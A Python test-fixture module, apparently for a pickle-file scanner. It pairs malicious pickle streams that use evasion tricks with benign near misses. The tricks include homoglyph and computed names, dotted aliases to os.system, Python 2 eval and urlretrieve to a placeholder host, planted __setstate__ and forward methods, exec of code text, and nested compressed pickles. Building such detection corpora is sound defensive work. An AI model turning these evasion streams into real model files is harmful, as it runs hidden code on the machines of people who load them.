"""Evasions where the trick itself is the harm, each beside what honest files do nearest to it."""

from __future__ import annotations

import struct

from samples.recipes.assembler import (
    BINPERSID,
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARKER,
    NONE,
    PAYLOAD,
    POP,
    REDUCE,
    STACK_GLOBAL,
    build,
    call,
    data,
    dict_of,
    global_line,
    inst,
    integer,
    list_of,
    name,
    new,
    proto,
    slot_state,
    stream,
    text,
    text32,
    tuple_of,
)

_POSIX_BYTES = call(name("_codecs", "encode"), text("posix"), text("latin1"))
_POSIX_TEXT = call(name("builtins", "str"), _POSIX_BYTES, text("latin1"))
_ORDERED = call(name("collections", "OrderedDict"))
_NAMESPACE = name("argparse", "Namespace")
_SYSTEM = name("posix", "system")
_UNKNOWN = name("weighbridge_marker", "run")
_WRITER = call(name("operator", "methodcaller"), text("write_text"), text("weighbridge-marker"))
_FILE = call(name("pathlib", "PosixPath"), text("weighbridge-marker"))
_OBJECT = global_line("__builtin__", "object")
_CODE = text("def forward(self): print('weighbridge-marker')")


def near_misses() -> dict[str, tuple[bytes, bytes]]:
    """Title -> (hit, near miss)."""
    return {
        "pko-03-computed-name": (
            stream(_POSIX_TEXT, text("system"), STACK_GLOBAL, PAYLOAD.arguments, REDUCE),
            stream(list_of(_POSIX_TEXT, _ORDERED)),
        ),
        "pko-03-name-from-attribute": (
            stream(
                build(name("string", "Template"), slot_state(("delimiter", text("posix")))),
                POP,
                name("string", "Template.delimiter"),
                text("system"),
                STACK_GLOBAL,
                PAYLOAD.arguments,
                REDUCE,
            ),
            stream(build(new(name("string", "Template")), dict_of(("template", text("posix"))))),
        ),
        "pko-04-build-on-class": (
            stream(build(name("collections", "OrderedDict"), slot_state(("copy", _SYSTEM)))),
            stream(build(call(_NAMESPACE), slot_state(("copy", name("builtins", "dict"))))),
        ),
        "pko-04-build-on-function": (
            stream(build(name("numpy", "size"), slot_state(("marker", text("weighbridge"))))),
            stream(build(_ORDERED, dict_of(("marker", text("weighbridge"))))),
        ),
        "pko-04-setstate-planted": (
            stream(build(call(_NAMESPACE), dict_of(("__setstate__", _SYSTEM))), text(MARKER), BUILD),
            stream(build(call(_NAMESPACE), dict_of(("state", name("builtins", "dict"))))),
        ),
        "pko-04-method-planted": (
            stream(build(call(_NAMESPACE), dict_of(("append", _WRITER))), _FILE, b"a"),
            stream(call(name("collections", "deque")), text("item"), b"a"),
        ),
        "pko-04-unknown-method-planted": (
            stream(build(call(_NAMESPACE), dict_of(("__setstate__", _UNKNOWN))), text("x"), BUILD),
            stream(build(call(_NAMESPACE), dict_of(("kind", name("builtins", "dict"))))),
        ),
        "pko-04-setitem-on-class": (
            stream(name("collections", "OrderedDict"), text("key"), _SYSTEM, b"s"),
            stream(_ORDERED, text("key"), name("builtins", "dict"), b"s"),
        ),
        "pko-05-ext2-unregistered": (
            stream(b"\x83" + struct.pack("<H", 7777), PAYLOAD.arguments, REDUCE),
            stream(integer(7777)),
        ),
        "pko-10-renames-and-dots": (
            stream(
                global_line("commands", "getoutput"),
                text(MARKER),
                b"\x85",
                REDUCE,
                POP,
                proto(4),
                name("pathlib", "os.system"),
                PAYLOAD.arguments,
                REDUCE,
                protocol=2,
            ),
            stream(
                global_line("copy_reg", "_reconstructor"),
                tuple_of(_OBJECT, _OBJECT, NONE),
                REDUCE,
                POP,
                proto(4),
                name("datetime", "timezone.utc"),
                protocol=2,
            ),
        ),
        "pko-11-commands": _python2("commands", "getoutput", text(MARKER)),
        "pko-11-builtin-eval": _python2("__builtin__", "eval", text("1 + 1")),
        "pko-11-urlretrieve": _python2("urllib", "urlretrieve", text("https://example.invalid/marker")),
        "pko-11-thread": _python2("thread", "start_new_thread", name("builtins", "print"), EMPTY_TUPLE),
        "pko-12-dotted": _dotted("pathlib", "os.system"),
        "pko-12-dotted-alias": _dotted("random", "_os.system"),
        "pko-12-dotted-library": _dotted("torch.library", "torch.utils.collect_env.run"),
        "pko-13-homoglyph": (
            stream(text("posix"), text("s\u0443stem"), STACK_GLOBAL, PAYLOAD.arguments, REDUCE),
            stream(dict_of(("\u0443", text("\u0441\u0438\u0441\u0442\u0435\u043c\u0430")))),
        ),
        "pko-15-persistent-id-module": (
            stream(tuple_of(text("module"), _SYSTEM, text("a.py"), text("import posix")), BINPERSID),
            stream(
                tuple_of(
                    text("module"),
                    name("torch.nn.modules.linear", "Linear"),
                    text("a.py"),
                    text("class Linear: ..."),
                ),
                BINPERSID,
                protocol=2,
            ),
        ),
        "pko-16-name-with-storage": (
            stream(call(name("torch", "UntypedStorage.from_file"), text("weighbridge-marker"))),
            stream(_storage_id(), BINPERSID, protocol=2),
        ),
        "pko-17-nested-compressed": (
            stream(call(name("pickle", "loads"), call(name("zlib", "decompress"), data(b"x\x9c")))),
            stream(call(name("pickle", "loads"), data(stream(_ORDERED)))),
        ),
        "pko-19-tensor-items": (
            stream(_tensor(), integer(0), integer(1), b"s", protocol=2),
            stream(EMPTY_DICT, text32("weight"), _tensor(), b"s", protocol=2),
        ),
        "pko-21-method-planted": (
            stream(build(name("torch.nn.modules.module", "Module"), slot_state(("forward", _SYSTEM)))),
            stream(
                build(new(name("torch.nn.modules.module", "Module")), dict_of(("training", b"\x88")))
            ),
        ),
        "pko-21-code-as-text": (
            stream(
                call(name("builtins", "exec"), text("def forward(self): print('weighbridge-marker')"))
            ),
            stream(dict_of(("source", text("def forward(self): print('weighbridge-marker')")))),
        ),
        "pko-22-opcodes-torch-never-writes": (
            stream(build(inst("collections", "OrderedDict"), dict_of(("x", PAYLOAD.call)))),
            stream(build(inst("collections", "OrderedDict"), dict_of(("x", _ORDERED)))),
        ),
    }


def _python2(module: str, qualname: str, *items: bytes) -> tuple[bytes, bytes]:
    """A name that only Python 2 knew, and one of a harmless type."""
    return (
        stream(global_line(module, qualname), tuple_of(*items), REDUCE, protocol=2),
        stream(global_line("__builtin__", "unicode"), tuple_of(text32("x")), REDUCE, protocol=2),
    )


def _dotted(module: str, qualname: str) -> tuple[bytes, bytes]:
    return (
        stream(call(name(module, qualname), text(MARKER))),
        stream(list_of(name("datetime", "timezone.utc"), _ORDERED)),
    )


def _storage_id() -> bytes:
    kind = global_line("torch", "FloatStorage")
    return tuple_of(text32("storage"), kind, text32("0"), text32("cpu"), integer(1))


def _tensor() -> bytes:
    """`torch._utils._rebuild_tensor_v2(...)` of one float, as torch.save writes it."""
    one = tuple_of(integer(1))
    hooks = global_line("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    given = (_storage_id() + BINPERSID, integer(0), one, one, b"\x89", hooks)
    return call(global_line("torch._utils", "_rebuild_tensor_v2"), *given)
